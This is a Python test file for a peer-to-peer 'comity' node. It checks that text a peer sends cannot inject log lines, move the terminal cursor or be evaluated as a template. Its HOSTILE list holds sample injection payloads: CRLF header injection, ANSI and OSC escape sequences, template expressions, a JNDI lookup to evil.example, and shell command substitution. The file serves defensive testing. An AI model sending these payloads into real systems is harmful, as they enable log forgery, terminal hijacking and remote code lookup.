"""T38: what a peer sends becomes a line in a log, a command to a terminal, or a template."""

import io
import json
import logging
from collections.abc import Iterator
from pathlib import Path

import pytest

from comity.app.journal import JournalLine
from comity.errors import ComityError, FormatError
from comity.kit import printing
from comity.kit.office import Saying
from comity.node.office import NodeOffice
from comity.node.tests.world import World, world
from comity.statement.model import subject_urn
from comity.wording import tell
from end_to_end.nodes import spoken

HOSTILE = (
    "a\r\nSet-Cookie: x=1",
    'a\n{"at": "2026-01-01", "level": "error"}',
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\link",
    "\x9b31m",
    "a\x08\x08b",
    "a\x00b",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__}",
    "{names}",
    "%n%n%s%x",
    "%(name)s",
    "${jndi:ldap://evil.example/x}",
    "$(touch x)",
    "`touch x`",
    "a\u2028b\u2029c",
    "\u202etxt.exe",
)
CONTROLS = {*map(chr, range(32)), *map(chr, range(0x7F, 0xA0)), "\u2028", "\u2029", "\u202e"} - {
    "\n"
}


@pytest.fixture
def pair(tmp_path: Path) -> Iterator[World]:
    """Two nodes and a mechanism."""
    with world(tmp_path, "ab") as made:
        yield made


def say_it_all(made: World, folder: Path) -> str:
    """Let a put every hostile string wherever its software lets it; return the case."""
    subject = made.request("a", "b")
    made.pump()
    a, case = made.nodes["a"], subject_urn(subject)
    content = folder / "content"
    content.write_bytes(b"x")
    found = NodeOffice(a, "assistance").find_subject("assistance", case)
    for each in HOSTILE:
        for text, name in ((each, "plain.txt"), ("See the file.", each)):
            try:
                a.say(
                    Saying(
                        kind="assistance.clarify",
                        subject=found,
                        own={},
                        texts={"en": text},
                        attachments=((name, content),),
                    )
                )
            except FormatError:
                continue
    made.pump()
    return case


def printed(made: World, case: str) -> str:
    """Return what b's commands print of a case, in words and as JSON, in both languages."""
    folder = made.nodes["b"].settings.folder
    made.close("b")
    out = ""
    for words in (["show", case], ["show", case, "--json"], ["list"]):
        for lang in ("zh", "en"):
            ended = spoken("--node", folder, "assistance", *words, lang=lang)  # type: ignore[arg-type] # two of them
            assert ended.returncode == 0, ended.stderr
            out += ended.stdout + ended.stderr
    made.open("b")
    return out


def test_nothing_that_is_printed_moves_a_cursor_or_turns_a_line(
    pair: World, tmp_path: Path
) -> None:
    """No escape, no bell, no backspace; and what looks like a template stays as it was sent."""
    out = printed(pair, say_it_all(pair, tmp_path))
    assert not set(out) & CONTROLS
    assert "\\u001b" in out
    for each in ("{{7*7}}", "${7*7}", "{0.__class__}", "%(name)s", "${jndi:ldap://evil.example/x}"):
        assert each in out
    assert "49" not in {word.strip() for word in out.split()}


def test_without_escaping_a_peer_commands_the_terminal(
    pair: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The defence, removed: controls in a file's name reach the terminal."""
    monkeypatch.setattr(printing, "_escaped", lambda found: found[0])
    assert set(printed(pair, say_it_all(pair, tmp_path))) & CONTROLS


def test_an_error_tells_what_was_sent_without_its_controls() -> None:
    """Facts are put into sentences as they are, never as the form of a sentence."""
    for each in HOSTILE:
        error = FormatError("ask.missing", name=each)
        for lang in ("zh", "en"):
            assert each in tell(error, lang) or printing.plain(each) in tell(error, lang)  # type: ignore[arg-type] # two


def journalled(formatter: logging.Formatter) -> list[str]:
    """Write every hostile string to a journal; return its lines."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(formatter)
    journal = logging.Logger("comity.test")  # noqa: LOG001 - of its own
    journal.addHandler(handler)
    for each in HOSTILE:
        journal.warning("%s: %s", each, ComityError(each).code)
    return stream.getvalue().splitlines()


def test_an_event_is_one_line_of_json_whatever_it_says() -> None:
    """Nothing that was sent begins a line of its own, and no control is in it."""
    lines = journalled(JournalLine())
    assert len(lines) == len(HOSTILE)
    for line, each in zip(lines, HOSTILE, strict=True):
        assert line.isascii()
        assert line.isprintable()
        assert json.loads(line)["message"] == f"{each}: {each}"


def test_without_json_a_peer_writes_lines_into_the_journal() -> None:
    """The defence, removed: a line that looks like ours and is not."""
    lines = journalled(logging.Formatter("%(asctime)s %(name)s %(message)s"))
    assert len(lines) > len(HOSTILE)
    assert not all(line.isprintable() for line in lines)
